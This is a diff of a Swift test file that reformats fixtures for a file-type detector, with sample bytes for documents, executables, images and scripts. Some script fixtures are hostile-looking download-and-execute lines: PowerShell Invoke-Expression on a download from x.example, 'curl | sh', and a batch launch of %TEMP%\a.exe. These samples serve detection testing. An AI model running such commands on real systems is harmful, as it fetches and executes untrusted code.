@@ -19,11 +19,33 @@ private let fixtures: [(String, [UInt8], FileType)] = {
         ("docx", Fixtures.ooxml(wordML, mainPart: "word/document.xml"), .docx),
         ("xlsx", Fixtures.ooxml(sheetML, mainPart: "xl/workbook.xml"), .xlsx),
         ("pptx", Fixtures.ooxml(presML, mainPart: "ppt/presentation.xml"), .pptx),
-        ("docm", Fixtures.ooxml("application/vnd.ms-word.document.macroEnabled.main+xml", mainPart: "word/document.xml"), .docm),
-        ("xlsm", Fixtures.ooxml("application/vnd.ms-excel.sheet.macroEnabled.main+xml", mainPart: "xl/workbook.xml"), .xlsm),
-        ("ooxml-other", Fixtures.ooxml("application/vnd.ms-visio.drawing.main+xml", mainPart: "visio/document.xml"), .ooxml),
-        ("odt", Fixtures.zip([.init(name: "mimetype", data: B("application/vnd.oasis.opendocument.text"), deflated: false), .init(name: "content.xml", data: B("<x/>"))]), .odt),
-        ("jar", Fixtures.zip([.init(name: "META-INF/MANIFEST.MF", data: B("Manifest-Version: 1.0\n")), .init(name: "a/Main.class", data: [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52])]), .jar),
+        (
+            "docm",
+            Fixtures.ooxml("application/vnd.ms-word.document.macroEnabled.main+xml", mainPart: "word/document.xml"),
+            .docm
+        ),
+        (
+            "xlsm", Fixtures.ooxml("application/vnd.ms-excel.sheet.macroEnabled.main+xml", mainPart: "xl/workbook.xml"),
+            .xlsm
+        ),
+        (
+            "ooxml-other", Fixtures.ooxml("application/vnd.ms-visio.drawing.main+xml", mainPart: "visio/document.xml"),
+            .ooxml
+        ),
+        (
+            "odt",
+            Fixtures.zip([
+                .init(name: "mimetype", data: B("application/vnd.oasis.opendocument.text"), deflated: false),
+                .init(name: "content.xml", data: B("<x/>")),
+            ]), .odt
+        ),
+        (
+            "jar",
+            Fixtures.zip([
+                .init(name: "META-INF/MANIFEST.MF", data: B("Manifest-Version: 1.0\n")),
+                .init(name: "a/Main.class", data: [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52]),
+            ]), .jar
+        ),
         ("doc", Fixtures.ole2(streams: ["WordDocument", "1Table", "\u{5}SummaryInformation"]), .doc),
         ("xls", Fixtures.ole2(streams: ["Workbook", "\u{5}SummaryInformation"]), .xls),
         ("ppt", Fixtures.ole2(streams: ["PowerPoint Document", "Current User"]), .ppt),
@@ -54,34 +76,88 @@ private let fixtures: [(String, [UInt8], FileType)] = {
         ("macho", [0xCF, 0xFA, 0xED, 0xFE, 0x07, 0, 0, 0x01] + [UInt8](repeating: 0, count: 24), .macho),
         ("macho-fat", [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2] + [UInt8](repeating: 0, count: 40), .macho),
         ("java-class", [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52] + [UInt8](repeating: 0, count: 20), .javaClass),
-        ("lnk", [0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46] + [UInt8](repeating: 0, count: 56), .lnk),
-        ("onenote", [0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D, 0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3] + [UInt8](repeating: 0, count: 16), .onenote),
+        (
+            "lnk",
+            [0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46]
+                + [UInt8](repeating: 0, count: 56), .lnk
+        ),
+        (
+            "onenote",
+            [0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D, 0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3]
+                + [UInt8](repeating: 0, count: 16), .onenote
+        ),
         ("chm", B("ITSF") + Fixtures.le32(3) + [UInt8](repeating: 0, count: 80), .chm),
         ("html", B("<!DOCTYPE html>\n<html><body><a href=\"http://x.example/\">x</a></body></html>"), .html),
         ("html-fragment", B("\n  <table><tr><td>Invoice</td></tr></table>"), .html),
-        ("hta", B("<html><head><HTA:APPLICATION ID=\"app\" WINDOWSTATE=\"minimize\"></head><script>x</script></html>"), .hta),
-        ("svg", B("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"), .svg),
+        (
+            "hta",
+            B("<html><head><HTA:APPLICATION ID=\"app\" WINDOWSTATE=\"minimize\"></head><script>x</script></html>"), .hta
+        ),
+        (
+            "svg",
+            B("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
+            .svg
+        ),
         ("xml", B("<?xml version=\"1.0\"?>\n<invoice><total>5</total></invoice>"), .xml),
         ("wsf", B("<job id=\"a\"><script language=\"JScript\">WScript.Echo(1)</script></job>"), .wsf),
-        ("javascript", B("var s = new ActiveXObject(\"WScript.Shell\");\nfunction run(){ eval(String.fromCharCode(97)); }\n"), .javascript),
-        ("vbscript", B("On Error Resume Next\nDim o\nSet o = CreateObject(\"WScript.Shell\")\no.Run \"calc\"\nEnd Sub\n"), .vbscript),
-        ("powershell", B("$c = New-Object System.Net.WebClient\n$d = $c.DownloadString('http://x.example/a')\nInvoke-Expression $d\n"), .powershell),
+        (
+            "javascript",
+            B("var s = new ActiveXObject(\"WScript.Shell\");\nfunction run(){ eval(String.fromCharCode(97)); }\n"),
+            .javascript
+        ),
+        (
+            "vbscript",
+            B("On Error Resume Next\nDim o\nSet o = CreateObject(\"WScript.Shell\")\no.Run \"calc\"\nEnd Sub\n"),
+            .vbscript
+        ),
+        (
+            "powershell",
+            B(
+                "$c = New-Object System.Net.WebClient\n$d = $c.DownloadString('http://x.example/a')\nInvoke-Expression $d\n"
+            ), .powershell
+        ),
         ("batch", B("@echo off\r\nset /a n=1\r\ncmd /c start \"\" %TEMP%\\a.exe\r\ngoto :eof\r\n"), .batch),
         ("shell", B("#!/bin/sh\ncurl -s http://x.example/a | sh\n"), .shell),
         ("url-shortcut", B("[InternetShortcut]\r\nURL=http://evil.example/\r\n"), .urlShortcut),
-        ("png", [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D] + B("IHDR") + [UInt8](repeating: 0, count: 13), .png),
-        ("jpeg", [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10] + B("JFIF") + [0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xFF, 0xD9], .jpeg),
+        (
+            "png",
+            [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D] + B("IHDR")
+                + [UInt8](repeating: 0, count: 13), .png
+        ),
+        (
+            "jpeg", [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10] + B("JFIF") + [0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xFF, 0xD9], .jpeg
+        ),
         ("gif", B("GIF89a") + [1, 0, 1, 0, 0x80, 0, 0] + [UInt8](repeating: 0, count: 12), .gif),
         ("webp", B("RIFF") + Fixtures.le32(26) + B("WEBPVP8 ") + [UInt8](repeating: 0, count: 18), .webp),
-        ("bmp", B("BM") + Fixtures.le32(70) + Fixtures.le32(0) + Fixtures.le32(54) + Fixtures.le32(40) + [UInt8](repeating: 0, count: 52), .bmp),
+        (
+            "bmp",
+            B("BM") + Fixtures.le32(70) + Fixtures.le32(0) + Fixtures.le32(54) + Fixtures.le32(40)
+                + [UInt8](repeating: 0, count: 52), .bmp
+        ),
         ("tiff-le", [0x49, 0x49, 0x2A, 0x00, 8, 0, 0, 0] + [UInt8](repeating: 0, count: 16), .tiff),
         ("tiff-be", [0x4D, 0x4D, 0x00, 0x2A, 0, 0, 0, 8] + [UInt8](repeating: 0, count: 16), .tiff),
-        ("ico", [0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 1, 0, 32, 0] + Fixtures.le32(40) + Fixtures.le32(22) + [UInt8](repeating: 0, count: 40), .ico),
-        ("ics", B("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Meeting\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"), .ics),
+        (
+            "ico",
+            [0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 1, 0, 32, 0] + Fixtures.le32(40) + Fixtures.le32(22)
+                + [UInt8](repeating: 0, count: 40), .ico
+        ),
+        (
+            "ics",
+            B("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Meeting\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"),
+            .ics
+        ),
         ("vcard", B("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:A\r\nEND:VCARD\r\n"), .vcard),
-        ("email", B("Received: from a by b; Mon, 1 Jan 2024 00:00:00 +0000\r\nFrom: a@example.com\r\nSubject: hi\r\n\r\nbody\r\n"), .email),
+        (
+            "email",
+            B(
+                "Received: from a by b; Mon, 1 Jan 2024 00:00:00 +0000\r\nFrom: a@example.com\r\nSubject: hi\r\n\r\nbody\r\n"
+            ), .email
+        ),
         ("text", B("Dear customer,\nplease find the invoice attached.\nRegards\n"), .text),
-        ("text-utf16", [0xFF, 0xFE] + Array("Hello, world\r\n".utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }), .text),
+        (
+            "text-utf16",
+            [0xFF, 0xFE] + Array("Hello, world\r\n".utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }), .text
+        ),
         ("empty", [], .empty),
         ("binary", (0..<512).map { UInt8(($0 * 73 + 11) & 0xFF) }, .binary),
     ]
@@ -120,9 +196,10 @@ private let fixtures: [(String, [UInt8], FileType)] = {
 
     @Test func prefixesOfContainersStillDetect() {
         // The first 4 KiB of a docx: no central directory, but `[Content_Types].xml` comes first.
-        let docx = Fixtures.ooxml(
-            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
-            mainPart: "word/document.xml") + [UInt8](repeating: 0x20, count: 8192)
+        let docx =
+            Fixtures.ooxml(
+                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+                mainPart: "word/document.xml") + [UInt8](repeating: 0x20, count: 8192)
         let head = Array(docx.prefix(4096))
         let r = head.withUnsafeBufferPointer { FileTypeDetector.detect($0, isPrefix: true) }
         #expect(r.type == .docx)
